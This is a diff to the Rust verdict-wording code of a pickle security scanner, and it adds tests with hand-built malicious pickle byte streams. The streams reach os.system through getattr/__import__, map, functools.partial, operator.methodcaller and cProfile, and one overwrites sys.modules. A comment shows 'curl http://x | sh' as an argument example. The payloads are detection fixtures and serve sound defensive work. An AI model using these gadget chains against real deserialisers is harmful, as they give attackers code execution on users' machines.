@@ -1,6 +1,8 @@
 //! The verdict in one sentence that a newcomer understands, and one line of facts below it.
 
-use super::{Finding, Report, Severity, capability_text};
+use std::cmp::Reverse;
+
+use super::{Executed, Finding, Report, Severity, capability_text};
 use crate::bytes::ErrorKind;
 use crate::formats::boosters::{Library, Model};
 use crate::formats::{Artifact, Body};
@@ -93,10 +95,10 @@ fn entries(artifact: &Artifact, part: usize, values: impl ExactSizeIterator<Item
 /// The sentence for a file.
 pub fn sentence(artifact: &Artifact, report: &Report) -> Sentence {
     let built = built(artifact);
-    let first = report.findings.first();
+    let first = lead(report);
     let (tone, text, call) = match first.map(|finding| (finding, finding.rule.severity)) {
         Some((finding, Severity::Danger)) => {
-            let (text, call) = danger(finding, &built);
+            let (text, call) = danger(artifact, report, finding, &built);
             (Tone::Danger, text, call)
         }
         Some((_, Severity::Caution)) => caution(artifact, report, &built),
@@ -107,33 +109,99 @@ pub fn sentence(artifact: &Artifact, report: &Report) -> Sentence {
     Sentence { tone, text, headline, call: call.map(|call| escape::plain(&call)), facts: facts(artifact) }
 }
 
-/// What the first dangerous finding comes to: the sentence, and the call as Python.
-fn danger(finding: &Finding, built: &str) -> (String, Option<String>) {
+/// The finding that the sentence is about: of the dangerous ones what comes of it, before the steps that lead there.
+fn lead(report: &Report) -> Option<&Finding> {
+    let dangerous = report.findings.iter().take_while(|finding| finding.rule.severity == Severity::Danger);
+    // What is given something comes before the call that made it.
+    dangerous
+        .min_by_key(|finding| (rank(finding), Reverse(finding.arguments.len())))
+        .or_else(|| report.findings.first())
+}
+
+/// The lower, the more a finding says of what loading comes to.
+fn rank(finding: &Finding) -> usize {
+    const WORST: [&str; 10] = [
+        "process",
+        "exec",
+        "native",
+        "file-write",
+        "packaging",
+        "network",
+        "tamper",
+        "deser",
+        "file-read",
+        "thread-signal",
+    ];
+    let capability = names_capability(&finding.callable).unwrap_or("other");
+    let worst = WORST.iter().position(|known| *known == capability);
+    match (finding.executed, finding.rule.id) {
+        (Executed::Call, "planted-method") => 0,
+        (Executed::Call, "known-danger" | "computed-name" | "walks-through") => worst.unwrap_or(WORST.len() + 1),
+        // What is called by a name on no list comes before a step to reach something.
+        (Executed::Call, "changes-import" | "unlisted-call" | "telling-call") => WORST.len(),
+        (Executed::Call, _) => WORST.len() + 2 + worst.unwrap_or(WORST.len()),
+        _ => 3 * WORST.len() + worst.unwrap_or(WORST.len()),
+    }
+}
+
+/// What a dangerous finding comes to: the sentence, and the call as Python.
+fn danger(artifact: &Artifact, report: &Report, finding: &Finding, built: &str) -> (String, Option<String>) {
     let name = escape::plain(&finding.callable);
     let call = format!("{}{}", finding.callable, finding.arguments);
+    // Who calls something to call this shows its own arguments.
+    let via = finding.detail.strip_prefix("Reached through ").filter(|via| !via.starts_with('<'));
+    let through = via.map_or_else(String::new, |via| format!(" through {}", escape::plain(via)));
     let given = given(&finding.arguments);
-    let then = if built == "nothing" { String::new() } else { format!(", then build {built}") };
+    let then =
+        if built == "nothing" || is_result(artifact, report) { String::new() } else { format!(", then build {built}") };
+    // Something worse that is handed over, or kept for later.
+    let held = report.findings.iter().filter(|other| other.rule.id == "danger-import").min_by_key(|other| rank(other));
+    let held = held.map(|held| escape::plain(&held.callable)).filter(|held| *held != name && !given.contains(held));
     match finding.rule.id {
         "danger-import" => (
-            format!("If loaded, this file would hold {name} for whoever uses it, and build {built}"),
+            format!(
+                "If loaded, this file would hold {name} for whoever uses it{}",
+                if then.is_empty() { String::new() } else { format!(", and build {built}") }
+            ),
             Some(format!("import {}", finding.callable)),
         ),
         "hidden-pickle" => (
             format!("This file carries a pickle inside its data that would reach {name}"),
             Some(finding.callable.clone()),
         ),
-        "changes-import" => (format!("If loaded, this file would change {name}{then}"), Some(call)),
+        "changes-import" => {
+            let verb = match finding.detail.as_str() {
+                "Sets attributes of it" => "set attributes of",
+                "Sets items of it" => "set items of",
+                _ => "add to",
+            };
+            let held = held.map_or_else(String::new, |held| format!(", {held} among them"));
+            (format!("If loaded, this file would {verb} {name}{held}{then}"), Some(call))
+        }
         "planted-method" => {
             (format!("If loaded, this file would make the unpickler itself call {name}{then}"), Some(call))
         }
-        _ => match names_capability(&finding.callable) {
-            Some(capability) => {
-                let verb = capability_text(capability);
-                (format!("If loaded, this file would call {name}{given} and {verb}{then}"), Some(call))
-            }
-            None => (format!("If loaded, this file would call {name}{given}{then}"), Some(call)),
-        },
+        _ => {
+            let verb = names_capability(&finding.callable)
+                .map_or_else(String::new, |capability| format!(" and {}", capability_text(capability)));
+            let held = held.map_or_else(String::new, |held| format!(" and hold {held}"));
+            let call = via.map_or(call, |via| format!("{via}{}", finding.arguments));
+            (format!("If loaded, this file would call {name}{through}{given}{verb}{held}{then}"), Some(call))
+        }
     }
+}
+
+/// True if what loading gives is the result of a dangerous call, or a name: nothing is built then.
+fn is_result(artifact: &Artifact, report: &Report) -> bool {
+    let Some((part, _, pickled)) = artifact.pickles().next() else { return false };
+    let Some(root) = pickled.root() else { return false };
+    let made = pickled.decoded.graph.object(root).map(|object| object.callee);
+    let dangerous = report.findings.iter().take_while(|finding| finding.rule.severity == Severity::Danger);
+    let mut at = dangerous.filter(|finding| finding.place.part == part && finding.executed == Executed::Call);
+    let name = pickled.decoded.graph.symbol(root).is_some();
+    // Of what a call returned nothing is known.
+    let unnamed = made.is_some_and(|callee| pickled.decoded.graph.symbol(callee).is_none());
+    name || unnamed || at.any(|finding| finding.place.node == Some(root))
 }
 
 /// The arguments of a call in a sentence: ` with 'curl http://x | sh'`, the end of long ones left out.
@@ -288,5 +356,39 @@ mod tests {
         assert!(of(b"\x80\x04cmypkg.hooks\non_load\n)R.".to_vec()).text.ends_with("mypkg.hooks.on_load"));
         assert!(of(b"\x80\x04X\xff\0\0\0a".to_vec()).text.starts_with("The file ends early at 0x2"));
         assert!(of(b"\x80\x04N\xff.".to_vec()).text.starts_with("The file is damaged at 0x3"));
+        let text = |stream: &[u8]| of(stream.to_vec()).text;
+        let before = "If loaded, this file would";
+        // getattr(__import__("os"), "system")("id")
+        let steps =
+            b"\x80\x02c__builtin__\ngetattr\nc__builtin__\n__import__\nU\x02os\x85RU\x06system\x86RU\x02id\x85R.";
+        assert_eq!(
+            text(steps),
+            format!("{before} call os.system with 'id' and start a process or run a shell command")
+        );
+        let map = b"\x80\x02c__builtin__\ntuple\nc__builtin__\nmap\ncos\nsystem\n]U\x02ida\x86R\x85R.";
+        let through =
+            "call os.system through builtins.map with os.system, ['id'] and start a process or run a shell command";
+        assert_eq!(text(map), format!("{before} {through}, then build a tuple"));
+        let walks = b"\x80\x04\x8c\x04enum\x8c\nbltns.eval\x93\x8c\x011\x85R.";
+        assert_eq!(text(walks), format!("{before} call enum.bltns.eval with '1'"));
+        let given = b"\x80\x02cmultiprocess\nPool\nK\x01cos\nsystem\n\x86R.";
+        assert_eq!(text(given), format!("{before} call multiprocess.Pool with 1, os.system"));
+        let partial = b"\x80\x02cfunctools\npartial\ncos\nsystem\nU\x02id\x86R)R.";
+        let through =
+            "call os.system through functools.partial with os.system, 'id' and start a process or run a shell command";
+        assert_eq!(text(partial), format!("{before} {through}"));
+        let method =
+            b"\x80\x02coperator\nmethodcaller\nU\x06systemU\x02id\x86Rc__builtin__\n__import__\nU\x02os\x85R\x85R.";
+        assert!(
+            text(method)
+                .starts_with(&format!("{before} call os.system through operator.methodcaller with 'system', 'id'"))
+        );
+        let modules = b"\x80\x02csys\nmodules\nU\x04jsoncos\nsystem\ns.";
+        assert_eq!(text(modules), format!("{before} set items of sys.modules, os.system among them"));
+        let method = b"\x80\x04ccProfile\nProfile.runcall\n(ccProfile\nProfile\n)Rcos\nsystem\nU\x02idtR.";
+        let given = "call cProfile.Profile.runcall with cProfile.Profile(), os.system, 'id' and run code";
+        assert_eq!(text(method), format!("{before} {given}"));
+        let held = b"\x80\x02}U\x04hookcos\nsystem\ns.";
+        assert_eq!(text(held), format!("{before} hold os.system for whoever uses it, and build a dict of 1 item"));
     }
 }
